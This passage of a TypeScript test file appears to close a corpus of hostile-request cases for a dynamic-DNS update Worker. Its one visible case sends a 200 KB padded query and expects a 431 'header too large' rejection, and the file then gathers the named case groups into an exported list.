    name: "a 200 KB query: refused by workerd before the Worker, cleanly",
    query: `${NAS}&myip=${SEEDED.nasA}&pad=${"x".repeat(200_000)}`,
    expect: { status: 431, body: /header too large/ },
  }),
];

export const CORPUS: readonly HostileRequest[] = [
  ...credentials,
  ...hostnames,
  ...addresses,
  ...neverAHost,
  ...prefixes,
  ...placeholders,
  ...otherServers,
  ...forgery,
  ...methodsAndPaths,
  ...sizes,
];
